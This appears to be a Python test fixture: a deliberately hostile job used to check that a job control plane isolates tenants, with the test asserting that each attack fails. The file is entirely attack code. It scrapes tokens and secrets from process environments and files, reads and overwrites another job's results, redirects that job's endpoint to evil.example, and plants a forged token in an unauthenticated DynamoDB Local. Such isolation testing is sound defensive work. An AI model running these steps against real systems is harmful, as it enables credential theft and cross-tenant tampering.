"""A hostile job: looks for an agent credential wherever a job could find one, then uses
whatever it found (or nothing) to tamper with the job named in VICTIM: overwrite its
results, point its endpoint elsewhere, read its results. Writes what it found and what each
request answered to results/attack.json; the test asserts that all of it failed."""
import glob
import json
import os
import re
import urllib.request

CP = os.environ["CP"]
VICTIM = os.environ["VICTIM"]
report = {"env": sorted(os.environ), "home": os.environ.get("HOME"), "uid": os.getuid()}

# Anything that looks like a credential: in our own environment, in any process's
# environment (the agent's among them), in any file named like a token nearby.
found = set()
for key, value in os.environ.items():
    if "TOKEN" in key or "SECRET" in key:
        found.add(value)
readable = []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as handle:
            entries = handle.read().split(b"\0")
    except OSError:
        continue
    readable.append(path)
    for entry in entries:
        key, _, value = entry.decode(errors="replace").partition("=")
        if re.search("TOKEN|SECRET", key) and value:
            found.add(value)
for path in glob.glob("../../*token*") + glob.glob("../../../*/*token*"):
    try:
        with open(path) as handle:
            found.add(handle.read().strip())
    except OSError:
        pass
report["found"] = len(found)

# The control plane's state folder holds every job's results: the job's folder is
# <state>/instances/<instance>/jobs/<job>, so it is four levels up.
state = os.path.abspath("../../../..")
stolen = os.path.join(state, "artifacts", "jobs", VICTIM, "results", "model.json")
report["files"] = {}
for what, action in [
    ("list the state folder", lambda: os.listdir(state)),
    ("read the state's secrets", lambda: open(os.path.join(state, "secrets.json")).read()),
    ("read the victim's results", lambda: open(stolen).read()),
    ("overwrite the victim's results", lambda: open(stolen, "w").write('{"tampered": true}')),
    ("list the other instances", lambda: os.listdir(os.path.join(state, "instances"))),
    # Every user's job and instance ids: the way to the other instances' folders.
    ("read the workflows journal", lambda: open(os.path.join(state, "workflows.jsonl")).read()),
    ("read its instance's record", lambda: open("../../instance.json").read()),
]:
    try:
        action()
        report["files"][what] = "done"
    except OSError as error:
        report["files"][what] = error.strerror


def attempt(what, method, url, token, body=None):
    request = urllib.request.Request(CP + url, data=body, method=method)
    if token:
        request.add_header("authorization", "Bearer " + token)
    request.add_header("content-type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            status = response.status
    except urllib.error.HTTPError as error:
        status = error.code
    except OSError as error:
        status = str(error)
    report.setdefault("attempts", []).append({"what": what, "status": status})


for token in sorted(found) + [None]:
    attempt(
        "overwrite results",
        "PUT",
        "/agent/v1/artifacts/jobs/%s/results/model.json" % VICTIM,
        token,
        json.dumps({"tampered": True}).encode(),
    )
    attempt(
        "set endpoint",
        "POST",
        "/agent/v1/jobs/%s/endpoint" % VICTIM,
        token,
        json.dumps({"url": "http://evil.example/"}).encode(),
    )
    attempt("read results", "GET", "/agent/v1/artifacts/jobs/%s/results/model.json" % VICTIM, token)


# DynamoDB Local answers whoever reaches its port and checks no signature: each listening
# port is asked for its tables, and into the control plane's table name a forged token is
# put, with key ids a job could guess (the control plane's own is a secret it cannot read).
def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as handle:
                rows = [line.split() for line in handle.readlines()[1:]]
        except OSError:
            continue
        ports.update(int(row[1].rsplit(":", 1)[1], 16) for row in rows if row[3] == "0A")
    return sorted(ports)


def dynamodb(port, key, region, target, body):
    request = urllib.request.Request(
        "http://127.0.0.1:%d/" % port, data=json.dumps(body).encode(), method="POST"
    )
    request.add_header("content-type", "application/x-amz-json-1.0")
    request.add_header("x-amz-target", "DynamoDB_20120810." + target)
    request.add_header(
        "authorization",
        "AWS4-HMAC-SHA256 Credential=%s/20260101/%s/dynamodb/aws4_request, "
        "SignedHeaders=host, Signature=00" % (key, region),
    )
    try:
        with urllib.request.urlopen(request, timeout=5) as response:
            return response.status, json.load(response)
    except urllib.error.HTTPError as error:
        try:
            return error.code, json.load(error)
        except ValueError:
            return error.code, None
    except (OSError, ValueError):
        return None, None


report["dynamodb"] = []
forged = {"pk": {"S": "TOKEN#" + "0" * 64}, "sk": {"S": "TOKEN"}}
for port in listening_ports():
    for key, region in [("local", "local"), ("local", "us-east-1"), ("attacker", "local")]:
        status, listed = dynamodb(port, key, region, "ListTables", {})
        if not isinstance(listed, dict) or "TableNames" not in listed:
            continue
        put, _ = dynamodb(port, key, region, "PutItem", {"TableName": "gpuctl", "Item": forged})
        report["dynamodb"].append(
            {"port": port, "key": key, "region": region, "tables": listed["TableNames"], "put": put}
        )

os.makedirs("results", exist_ok=True)
with open("results/attack.json", "w") as handle:
    json.dump(report, handle)
